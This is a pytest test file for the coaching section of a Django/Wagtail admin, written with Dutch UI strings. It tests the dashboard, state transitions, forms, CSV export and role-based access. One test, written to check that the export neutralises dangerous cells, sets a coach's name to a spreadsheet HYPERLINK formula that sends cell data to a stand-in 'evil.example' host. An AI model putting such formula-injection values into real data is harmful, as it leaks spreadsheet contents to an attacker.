"""Coaching in the Wagtail admin: dashboard, list by state, detail with its forms, CSV export,
and who gets in."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from baz.accounts.tests.factories import UserFactory
from baz.coaching.models import (
    Agreement,
    CoachingRequest,
    Message,
    NoteVisibility,
    PhasePlan,
    State,
    TrainingSession,
    Trajectory,
    TrajectoryNote,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def coach_client(client, coaching_coach, login_verified):
    login_verified(client, coaching_coach)
    return client


def detail_url(trajectory):
    return f"/beheer/coaching/trajecten/{trajectory.pk}/"


def test_the_menu_shows_coaching_to_coaches(coach_client):
    content = coach_client.get("/beheer/").content.decode()

    assert "Coaching" in content
    assert "/beheer/coaching/trajecten/" in content


def test_the_dashboard_shows_states_sessions_overdue_agreements_and_unanswered_messages(
    coach_client, coaching_trajectory_a, coaching_trajectory_b, atlas_member_a, coaching_coach
):
    TrainingSession.objects.create(
        trajectory=coaching_trajectory_a,
        topic="Rol van de gemeente",
        starts_at=timezone.now() + timedelta(days=3),
        ends_at=timezone.now() + timedelta(days=3, hours=2),
        trainer="Carla Coach",
    )
    Agreement.objects.create(
        trajectory=coaching_trajectory_b,
        title="Aanspreekpunt aanduiden",
        owner_name="Schepen",
        deadline=timezone.localdate() - timedelta(days=2),
    )
    Agreement.objects.create(
        trajectory=coaching_trajectory_b,
        title="Al klaar",
        owner_name="Schepen",
        deadline=timezone.localdate() - timedelta(days=2),
        status="klaar",
    )
    Message.objects.create(
        trajectory=coaching_trajectory_a, author_name="Gent", body="Vraag", from_baz=False
    )
    Message.objects.create(
        trajectory=coaching_trajectory_b, author_name="Leuven", body="Vraag", from_baz=False
    )
    Message.objects.create(
        trajectory=coaching_trajectory_b, author_name="Carla", body="Antwoord", from_baz=True
    )

    response = coach_client.get("/beheer/coaching/")

    content = response.content.decode()
    assert response.status_code == 200
    assert response.context["dashboard"]["by_state"][2] == {
        "value": "analyse",
        "label": "Analyse",
        "count": 2,
    }
    assert "Rol van de gemeente" in content
    assert "Aanspreekpunt aanduiden" in content
    assert "Al klaar" not in content
    assert [t.pk for t in response.context["dashboard"]["unanswered"]] == [coaching_trajectory_a.pk]


def test_the_list_filters_by_state(coach_client, coaching_trajectory_a, atlas_gemeente_b):
    Trajectory.objects.create(municipality=atlas_gemeente_b, state=State.REQUESTED)

    all_rows = coach_client.get("/beheer/coaching/trajecten/").content.decode()
    requested = coach_client.get("/beheer/coaching/trajecten/?state=aangevraagd").content.decode()

    assert "Gent" in all_rows
    assert "Leuven" in all_rows
    assert "Leuven" in requested
    assert ">Gent<" not in requested


def test_the_detail_page_shows_everything_including_coach_notes_and_part_b(
    coach_client, coaching_trajectory_a, coaching_coach
):
    TrajectoryNote.objects.create(
        trajectory=coaching_trajectory_a, author=coaching_coach, body="Alleen voor ons."
    )
    CoachingRequest.objects.create(
        trajectory=coaching_trajectory_a,
        municipality=coaching_trajectory_a.municipality,
        name="Hanne Verstraeten",
        role="Beleidsmedewerker",
        email="hanne@example.org",
        motivation="Graag.",
    )

    response = coach_client.get(detail_url(coaching_trajectory_a))

    content = response.content.decode()
    assert response.status_code == 200
    assert "Alleen voor ons." in content
    assert "hanne@example.org" in content
    assert "Naar Vorming" in content
    assert "Stop het traject" in content
    assert "coaching/admin/_phases.html" in [t.name for t in response.templates]


def test_a_coach_moves_the_trajectory_with_a_post(coach_client, coaching_trajectory_a):
    response = coach_client.post(
        f"{detail_url(coaching_trajectory_a)}stap/",
        {"to_state": "vorming", "note": "Analyse besproken."},
        follow=True,
    )

    coaching_trajectory_a.refresh_from_db()
    assert coaching_trajectory_a.state == State.TRAINING
    assert "staat nu in de fase" in response.content.decode()


def test_an_illegal_step_is_refused_with_a_message(coach_client, coaching_trajectory_a):
    response = coach_client.post(
        f"{detail_url(coaching_trajectory_a)}stap/", {"to_state": "afgerond"}, follow=True
    )

    coaching_trajectory_a.refresh_from_db()
    assert coaching_trajectory_a.state == State.ANALYSIS
    assert "kan niet naar" in response.content.decode()


def test_stopping_without_reason_is_refused(coach_client, coaching_trajectory_a):
    response = coach_client.post(
        f"{detail_url(coaching_trajectory_a)}stap/", {"to_state": "stopgezet"}, follow=True
    )

    coaching_trajectory_a.refresh_from_db()
    assert coaching_trajectory_a.state == State.ANALYSIS
    assert "Geef een reden" in response.content.decode()


def test_the_forms_assign_coaches_plan_phases_add_notes_analysis_and_messages(
    coach_client, coaching_trajectory_a, coaching_coach, atlas_member_a
):
    url = detail_url(coaching_trajectory_a)

    coach_client.post(f"{url}coaches/", {"coaches": [coaching_coach.pk]})
    coach_client.post(
        f"{url}fase/vorming/",
        {
            "fase-vorming-phase": "vorming",
            "fase-vorming-plan": "Twee sessies.",
            "fase-vorming-starts_on": "2027-03-01",
            "fase-vorming-ends_on": "2027-04-01",
            "fase-vorming-notes": "",
        },
    )
    coach_client.post(
        f"{url}notitie/",
        {
            "body": "Interview schepen",
            "kind": "interview",
            "phase": "analyse",
            "visibility": "gedeeld",
        },
    )
    coach_client.post(f"{url}analyse/", {"analysis_summary": "Sterk netwerk."})
    coach_client.post(f"{url}bericht/", {"body": "Zie je de planning?"})

    coaching_trajectory_a.refresh_from_db()
    assert list(coaching_trajectory_a.coaches.all()) == [coaching_coach]
    plan = PhasePlan.objects.get(trajectory=coaching_trajectory_a, phase="vorming")
    assert (plan.plan, str(plan.starts_on)) == ("Twee sessies.", "2027-03-01")
    note = TrajectoryNote.objects.get()
    assert (note.kind, note.visibility, note.author) == (
        "interview",
        NoteVisibility.SHARED,
        coaching_coach,
    )
    assert coaching_trajectory_a.analysis_summary == "Sterk netwerk."
    assert Message.objects.get().from_baz is True


def test_a_phase_that_ends_before_it_starts_is_refused(coach_client, coaching_trajectory_a):
    response = coach_client.post(
        f"{detail_url(coaching_trajectory_a)}fase/analyse/",
        {
            "fase-analyse-phase": "analyse",
            "fase-analyse-starts_on": "2027-03-01",
            "fase-analyse-ends_on": "2027-02-01",
        },
        follow=True,
    )

    assert "Het einde ligt voor de start." in response.content.decode()
    assert not PhasePlan.objects.exists()


def test_the_csv_export_has_one_row_per_trajectory_without_personal_data(
    coach_client, coaching_trajectory_a, coaching_trajectory_b, coaching_coach
):
    coaching_trajectory_a.coaches.add(coaching_coach)
    CoachingRequest.objects.create(
        trajectory=coaching_trajectory_a,
        municipality=coaching_trajectory_a.municipality,
        name="Hanne",
        role="Beleid",
        email="hanne@example.org",
        motivation="Graag.",
    )

    response = coach_client.get("/beheer/coaching/trajecten/export.csv")

    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:5] == ["id", "gemeente", "refnis", "provincie", "stand van zaken"]
    assert [r[1] for r in rows[1:]] == ["Gent", "Leuven"]
    assert rows[1][5] == "Carla Coach"
    assert rows[1][6] == "1"
    assert "hanne@example.org" not in text


def test_the_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas(
    coach_client, coaching_trajectory_a, coaching_coach
):
    # A coach chooses their own name; a spreadsheet must show it, never run it.
    coaching_coach.first_name = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
    coaching_coach.last_name = ""
    coaching_coach.save()
    coaching_trajectory_a.coaches.add(coaching_coach)

    response = coach_client.get("/beheer/coaching/trajecten/export.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][5] == "'" + '=HYPERLINK("https://evil.example/?"&A1;"klik")'


@pytest.mark.parametrize(
    "url",
    [
        "/beheer/coaching/",
        "/beheer/coaching/trajecten/",
        "/beheer/coaching/trajecten/export.csv",
        "DETAIL",
    ],
)
def test_editors_without_the_coach_role_are_refused(
    client, login_verified, coaching_trajectory_a, url
):
    # Redactie may do everything; a staff member with admin access but no coaching role may not.
    from django.contrib.auth.models import Permission

    other = UserFactory(email="beheer@example.org")
    other.user_permissions.add(Permission.objects.get(codename="access_admin"))
    login_verified(client, other)

    response = client.get(detail_url(coaching_trajectory_a) if url == "DETAIL" else url)

    assert response.status_code in (302, 403)
    assert "Gent" not in response.content.decode()


def test_a_posted_transition_by_a_non_coach_changes_nothing(
    client, login_verified, coaching_trajectory_a
):
    from django.contrib.auth.models import Permission

    other = UserFactory(email="beheer@example.org")
    other.user_permissions.add(Permission.objects.get(codename="access_admin"))
    login_verified(client, other)

    client.post(f"{detail_url(coaching_trajectory_a)}stap/", {"to_state": "vorming"})

    coaching_trajectory_a.refresh_from_db()
    assert coaching_trajectory_a.state == State.ANALYSIS


def test_the_admin_invites_a_request_that_came_in_after_the_intake(
    coach_client, coaching_trajectory_a
):
    from baz.accounts.models import Invitation

    coaching_request = CoachingRequest.objects.create(
        trajectory=coaching_trajectory_a,
        municipality=coaching_trajectory_a.municipality,
        name="Bram Peeters",
        role="Schepen",
        email="bram@example.org",
        motivation="Graag.",
    )

    coach_client.post(
        f"{detail_url(coaching_trajectory_a)}aanvraag/{coaching_request.pk}/uitnodigen/"
    )
    coach_client.post(
        f"{detail_url(coaching_trajectory_a)}aanvraag/{coaching_request.pk}/uitnodigen/"
    )

    assert Invitation.objects.filter(email="bram@example.org").count() == 1
